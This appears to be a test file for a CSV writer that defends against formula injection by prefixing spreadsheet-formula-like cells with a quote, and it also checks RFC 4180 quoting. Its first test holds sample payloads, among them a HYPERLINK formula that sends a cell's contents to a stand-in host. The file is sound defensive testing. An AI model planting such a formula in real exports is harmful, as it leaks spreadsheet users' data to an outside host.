import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { csvWriter, neutralizeFormula } from '../../src/common/csv/csv-writer';

async function write(columns: string[], rows: unknown[][]): Promise<string> {
  const csv = csvWriter(columns);
  Readable.from(rows).pipe(csv);
  return text(csv);
}

describe('the CSV writer', () => {
  it('puts a single quote before every text cell a spreadsheet would read as a formula', async () => {
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
    const out = await write(
      ['value'],
      cells.map((c) => [c]),
    );
    const parsed: { value: string }[] = parse(out, { columns: true, relax_column_count: false });
    expect(parsed.map((r) => r.value)).toEqual(cells.map((c) => `'${c}`));
  });

  it('leaves other text, numbers, booleans and dates as they are, quoted per RFC 4180 where needed', async () => {
    const out = await write(
      ['name', 'n', 'active', 'at'],
      [
        ['First, "quoted"', -2, true, new Date('2026-01-02T03:04:05.000Z')],
        ["a=b, O'Brien", 3.5, false, new Date(0)],
      ],
    );
    expect(out).toBe(
      'name,n,active,at\n' +
        '"First, ""quoted""",-2,true,2026-01-02T03:04:05.000Z\n' +
        `"a=b, O'Brien",3.5,false,1970-01-01T00:00:00.000Z\n`,
    );
  });

  it('neutralizes header names too, and only cells that start like a formula', () => {
    expect(neutralizeFormula('=x')).toBe("'=x");
    expect(neutralizeFormula(' =x')).toBe(' =x');
    expect(neutralizeFormula('x=1')).toBe('x=1');
    expect(neutralizeFormula('')).toBe('');
  });
});
